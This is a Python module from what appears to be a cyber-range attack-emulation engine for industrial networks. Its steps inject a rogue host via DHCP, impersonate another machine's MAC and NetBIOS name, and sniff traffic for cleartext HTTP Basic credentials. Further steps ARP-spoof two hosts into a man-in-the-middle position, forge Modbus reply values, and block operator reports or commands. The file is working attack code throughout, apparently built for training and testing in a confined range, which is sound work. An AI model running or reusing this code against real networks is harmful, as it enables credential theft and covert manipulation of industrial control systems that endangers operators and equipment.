"""In the segment itself: a machine that was not there before, somebody in the middle, listening, false names.

These steps need raw frames of the intruder's own machine (caps: [net_raw]); standing in the middle also needs a zone
whose machines learn their neighbours (`arp: learned`): everywhere else the range gives them fixed ones.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import ipaddress
import random
import re
import struct
import time
from collections.abc import Callable, Mapping
from typing import Any

from cyber_range.engine.attack.ethernet import (
    ANSWERS,
    ASKS,
    BROADCAST,
    TCP,
    UDP,
    arp,
    mac_bytes,
    mac_text,
    read_arp,
    read_segment,
    segment,
)
from cyber_range.engine.attack.intruder import Intruder
from cyber_range.engine.attack.middle import ZERO, Lie, Middle, Rules
from cyber_range.engine.attack.registry import step
from cyber_range.engine.attack.ways import Blocked, Evidence, Leg, Tap

RENEW = 1.0  # s between two lures: Linux asks again after about 30 s, and believes the last who answered
FIND = 1.5  # s for an answer to "who has"
SHOWN = 40
MIDDLE = "in the middle"
BASIC = re.compile(rb"[Aa]uthorization: Basic ([A-Za-z0-9+/=]+)")


def leg_to(intruder: Intruder, host: str) -> Leg:
    """The own leg that stands in a host's network."""
    target = ipaddress.IPv4Address(intruder.fence.check(host))
    for leg in intruder.toolbox.legs():
        if target in ipaddress.IPv4Network(f"{leg.ip}/{leg.prefix}", strict=False):
            return leg
    raise Blocked(f"{host} is not in a segment this machine stands in")


async def tapped(intruder: Intruder, ifname: str, on_frames: Callable[[list[tuple[int, bytes]]], None]) -> Tap:
    try:
        return await intruder.toolbox.tap(ifname, on_frames)
    except OSError as exc:
        raise Blocked(f"this machine may not listen on {ifname} ({exc})") from exc


async def macs_of(intruder: Intruder, leg: Leg, hosts: list[str]) -> dict[str, bytes]:
    """Asks the segment who has each address; Blocked for the first that does not answer."""
    found: dict[str, bytes] = {}
    heard = asyncio.Event()

    def on_frames(frames: list[tuple[int, bytes]]) -> None:
        for _, frame in frames:
            said = read_arp(frame)
            if said is not None and said.operation == ANSWERS and said.ip in hosts:
                found.setdefault(said.ip, said.mac)
        if len(found) == len(hosts):
            heard.set()

    tap = await tapped(intruder, leg.name, on_frames)
    own = mac_bytes(leg.mac)
    try:
        for _ in range(3):
            for host in hosts:
                intruder.toolbox.send_frames(leg.name, [arp(ASKS, (own, leg.ip), (ZERO, host), BROADCAST)])
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(heard.wait(), FIND / 3)
                break
    finally:
        tap.close()
    if missing := [host for host in hosts if host not in found]:
        raise Blocked(f"nobody has {missing[0]} in this segment")
    return found


@step("join_zone", "T0864", "T0883", "T0862", gains=("session",))
async def join_zone(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """A laptop is plugged in: it asks for an address by DHCP, announces the one it has, and works from there."""
    name = str(args.get("hostname", "DESKTOP-7Q2K"))[:30]
    announced = []
    for leg in intruder.toolbox.legs():
        own = mac_bytes(leg.mac)
        asking = dhcp_discover(own, name)
        frames = [
            segment((own, BROADCAST), ("0.0.0.0", "255.255.255.255"), (68, 67), proto=UDP, payload=asking).pack(),  # noqa: S104 - "no address yet"
            *[arp(ASKS, (own, leg.ip), (ZERO, leg.ip), BROADCAST) for _ in range(2)],
        ]
        try:
            evidence.sent += sum(map(len, frames))
            intruder.toolbox.send_frames(leg.name, frames)
        except OSError as exc:
            raise Blocked(f"this machine may not send raw frames ({exc})") from exc
        announced.append({"ip": leg.ip, "mac": leg.mac})
    intruder.enter(intruder.toolbox.direct())
    evidence.facts |= {"hostname": name, "legs": announced}


def dhcp_discover(mac: bytes, name: str) -> bytes:
    """RFC 2131; options: discover, client identifier, host name, vendor class, what is asked for."""
    head = struct.pack(">BBBBIHH16s", 1, 1, 6, 0, random.SystemRandom().getrandbits(32), 0, 0x8000, b"")
    head += mac.ljust(16, b"\0") + bytes(192) + bytes.fromhex("63825363")
    host = name.encode()
    options = b"\x35\x01\x01" + b"\x3d\x07\x01" + mac + b"\x0c" + bytes((len(host),)) + host
    return (head + options + b"\x3c\x08MSFT 5.0" + b"\x37\x04\x01\x03\x06\x0f" + b"\xff").ljust(300, b"\0")


@step("masquerade", "T0849", needs=("session",))
async def masquerade(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Appears under another's name and MAC: answers for `address` with `mac` and calls itself `hostname`, `seconds` long."""
    address, name = intruder.fence.check(str(args["address"])), str(args["hostname"])[:15]
    mac, seconds = mac_bytes(str(args["mac"])), min(3600.0, float(args.get("seconds", 120)))
    if len(mac) != 6:
        raise ValueError(f"{args['mac']!r} is no MAC address")
    leg = leg_to(intruder, address)
    network = ipaddress.IPv4Network(f"{leg.ip}/{leg.prefix}", strict=False)
    asking = name_registration(name, address)
    announcement = [
        arp(ANSWERS, (mac, address), (mac, address), BROADCAST),
        segment((mac, BROADCAST), (address, str(network.broadcast_address)), (137, 137), proto=UDP, payload=asking).pack(),
    ]  # fmt: skip

    def on_frames(frames: list[tuple[int, bytes]]) -> None:
        for _, frame in frames:
            asked = read_arp(frame)
            if asked is not None and asked.operation == ASKS and asked.target == address and asked.mac != mac:
                reply = arp(ANSWERS, (mac, address), (asked.mac, asked.ip), asked.mac)
                intruder.toolbox.send_frames(leg.name, [reply])

    tap = await tapped(intruder, leg.name, on_frames)
    intruder.toolbox.send_frames(leg.name, announcement)
    evidence.sent += sum(map(len, announcement))
    evidence.facts |= {"address": address, "mac": mac_text(mac), "hostname": name}

    async def keep_appearing() -> None:
        until = time.monotonic() + seconds
        try:
            while time.monotonic() < until:
                await asyncio.sleep(min(5.0, seconds))
                intruder.toolbox.send_frames(leg.name, announcement)
        finally:
            tap.close()

    intruder.go_on("masquerade", keep_appearing())


def name_registration(name: str, address: str) -> bytes:
    """A NetBIOS name registration broadcast (RFC 1002, 4.2.2): what a Windows machine says when it comes up."""
    padded = name.upper().encode("ascii", "replace").ljust(15)[:15] + b"\0"
    coded = b"\x20" + bytes(65 + half for byte in padded for half in (byte >> 4, byte & 15)) + b"\0"
    head = struct.pack(">HHHHHH", random.SystemRandom().getrandbits(16), 0x2910, 1, 0, 0, 1)
    record = b"\xc0\x0c" + struct.pack(">HHIHH", 0x20, 1, 300000, 6, 0) + ipaddress.IPv4Address(address).packed
    return head + coded + struct.pack(">HH", 0x20, 1) + record


@step("sniff", "T0842", needs=("session",), gains=("points",))
async def sniff(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Listens on the own legs for some `seconds` (5): who talks to whom, and passwords in clear text (loot "login")."""
    seconds = min(120.0, float(args.get("seconds", 5)))
    flows: dict[str, int] = {}
    speakers: dict[str, str] = {}
    logins: set[str] = set()
    count = 0

    def on_frames(frames: list[tuple[int, bytes]]) -> None:
        nonlocal count
        for _, frame in frames:
            count += 1
            evidence.received += len(frame)
            asked = read_arp(frame)
            if asked is not None:
                speakers[asked.ip] = mac_text(asked.mac)
            found = read_segment(frame)
            if found is None:
                continue
            speakers.setdefault(found.src, mac_text(found.src_mac))
            low = min(found.sport, found.dport)
            client, server = (found.dst, found.src) if found.sport == low else (found.src, found.dst)
            key = f"{client}>{server}:{low}/{'tcp' if found.proto == TCP else 'udp'}"
            flows[key] = flows.get(key, 0) + 1
            for token in BASIC.findall(found.payload):
                with contextlib.suppress(ValueError):
                    logins.add(base64.b64decode(token).decode("utf-8", "replace"))

    taps = [await tapped(intruder, leg.name, on_frames) for leg in intruder.toolbox.legs()]
    try:
        await asyncio.sleep(seconds)
    finally:
        for tap in taps:
            tap.close()
    most = dict(sorted(flows.items(), key=lambda item: -item[1])[:SHOWN])
    if logins:
        intruder.loot["login"] = sorted(logins)[0].encode()
    evidence.facts |= {
        "frames": count, "flows": most, "machines": speakers, "users": sorted(login.partition(":")[0] for login in logins),
    }  # fmt: skip


@step("arp_spoof", "T0830", "T0842", gains=("middle",))
async def arp_spoof(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Tells two machines (`between`: [address, address]) that it is the other, and hands on what they say. `seconds` 600."""
    hosts = [intruder.fence.check(str(host)) for host in args["between"]]
    if len(set(hosts)) != 2:
        raise ValueError("between: two different addresses, like the operator station's and the controller's")
    leg = leg_to(intruder, hosts[0])
    if leg_to(intruder, hosts[1]).name != leg.name:
        raise Blocked(f"{hosts[0]} and {hosts[1]} do not stand in one segment")
    victims = await macs_of(intruder, leg, hosts)
    middle = Middle(mac_bytes(leg.mac), leg.ip, victims)
    send = intruder.toolbox.send_frames

    def on_frames(frames: list[tuple[int, bytes]]) -> None:
        out: list[bytes] = []
        for _, frame in frames:
            out += middle.answers_needed(frame) or middle.take(frame)
        if out:
            send(leg.name, out)

    tap = await tapped(intruder, leg.name, on_frames)
    intruder.middle = middle
    seconds, opened = float(args.get("seconds", 600)), asyncio.Event()

    async def keep_standing() -> None:
        until = time.monotonic() + seconds
        try:
            while time.monotonic() < until:
                send(leg.name, middle.lure())
                opened.set()
                await asyncio.sleep(RENEW)
        finally:
            send(leg.name, middle.heal())
            tap.close()
            intruder.middle = None
            intruder.knows.discard("middle")
            counts = middle.counts
            intruder.tell("arp_spoof_ended", {
                "between": hosts, "relayed": counts.relayed, "rewritten": counts.rewritten, "kept_back": counts.kept_back,
            })  # fmt: skip

    intruder.go_on(MIDDLE, keep_standing())
    await opened.wait()
    await asyncio.sleep(min(3.0, float(args.get("settle", 1.0))))
    evidence.facts |= {
        "between": {host: mac_text(mac) for host, mac in victims.items()}, "as": leg.mac,
        "relayed": middle.counts.relayed,
    }  # fmt: skip

    async def leave(_: Evidence) -> dict[str, Any]:
        intruder.end(MIDDLE)
        return {"healed": hosts}

    intruder.undo_with(MIDDLE, leave)


def standing(intruder: Intruder) -> Middle:
    if intruder.middle is None:
        raise Blocked("nobody stands in the middle any more")
    return intruder.middle


def change(intruder: Intruder, rules: Rules) -> None:
    """From now on these; `undo` hands everything on unchanged again."""
    middle = standing(intruder)
    middle.rules = rules

    async def hand_on(_: Evidence) -> dict[str, Any]:
        middle.rules = Rules()
        return {"handed_on": True}

    intruder.undo_with("middle rules", hand_on)


@step("spoof_reports", "T0856", "T0832", needs=("middle",))
async def spoof_reports(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """From the middle, writes other values into Modbus replies: `lies` [{host, table, address, value or plus}]."""
    lies: dict[str, tuple[Lie, ...]] = {}
    for one in args["lies"]:
        value = None if one.get("value") is None else int(one["value"])
        lie = Lie(str(one.get("table", "holding")), int(one["address"]), value, int(one.get("plus", 0)))
        host = intruder.fence.check(str(one["host"]))
        lies[host] = (*lies.get(host, ()), lie)
    change(intruder, Rules(lies=lies))
    evidence.facts |= await watched(standing(intruder), args)
    if not evidence.facts["rewritten"]:
        raise Blocked("no reply with these points came by")


@step("block_reports", "T0804", "T0815", "T0829", needs=("middle",))
async def block_reports(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """From the middle, keeps the answers of servers on `port` (502) back: the operator's picture stands still."""
    change(intruder, Rules(port=int(args.get("port", 502)), keep_reports=True))
    evidence.facts |= await watched(standing(intruder), args)


@step("block_commands", "T0803", "T0813", "T0827", needs=("middle",))
async def block_commands(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """From the middle, keeps orders back (Modbus writes; on another `port` everything towards it): nothing obeys."""
    change(intruder, Rules(port=int(args.get("port", 502)), keep_orders=True))
    evidence.facts |= await watched(standing(intruder), args)


async def watched(middle: Middle, args: Mapping[str, Any]) -> dict[str, Any]:
    """What came by in the first `seconds` (2)."""
    before = (middle.counts.relayed, middle.counts.rewritten, middle.counts.kept_back)
    await asyncio.sleep(min(30.0, float(args.get("seconds", 2))))
    after = (middle.counts.relayed, middle.counts.rewritten, middle.counts.kept_back)
    return dict(
        zip(("relayed", "rewritten", "kept_back"), (b - a for a, b in zip(before, after, strict=True)), strict=True)
    )
